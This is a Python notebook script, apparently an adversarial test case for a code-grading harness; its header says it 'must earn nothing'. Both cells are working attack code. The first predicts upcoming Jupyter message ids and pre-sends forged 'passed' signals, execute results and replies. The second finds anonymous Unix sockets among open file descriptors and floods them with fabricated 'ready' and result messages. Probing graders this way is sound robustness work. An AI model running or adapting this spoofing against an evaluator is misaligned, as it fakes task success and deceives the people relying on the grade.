# Guesses the ids of requests to come, and answers them all before they are asked; on its line too.
#
# must: earn nothing, and be no fault of the grader's

# %%
import copy, json, os, socket, stat, struct

kernel = get_ipython().kernel
parent = copy.deepcopy(kernel.get_parent())
base, _, number = parent["header"]["msg_id"].rpartition("_")
for i in range(int(number) + 1, int(number) + 60):
    future = copy.deepcopy(parent)
    future["header"]["msg_id"] = future["msg_id"] = f"{base}_{i}"
    for kind, content in [
        ("comm_msg", {"comm_id": "x", "data": {"ready": True}}),
        ("comm_msg", {"comm_id": "x", "data": {"passed": True}}),
        ("execute_result", {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1}),
        ("status", {"execution_state": "idle"}),
    ]:
        kernel.session.send(kernel.iopub_socket, kind, content, future)
    reply = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    kernel.session.send(kernel.shell_stream, "execute_reply", reply, future, ident=kernel._parent_ident["shell"])

# %%
ready = json.dumps({"ready": True}).encode()
claim = json.dumps({"result": {"kind": "float", "hex": "0x1p-2"}, "args": [], "kwargs": {}, "figures": []}).encode()
for number in range(3, 1024):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            continue
    except OSError:
        continue
    end = socket.socket(fileno=os.dup(number))
    if end.family == socket.AF_UNIX and not end.getsockname():
        for text in [ready, *[claim] * 50]:
            end.send(struct.pack("!II", len(text), 10) + text + b"\x02" + b"\0" * 7 + b"{}", socket.MSG_DONTWAIT)
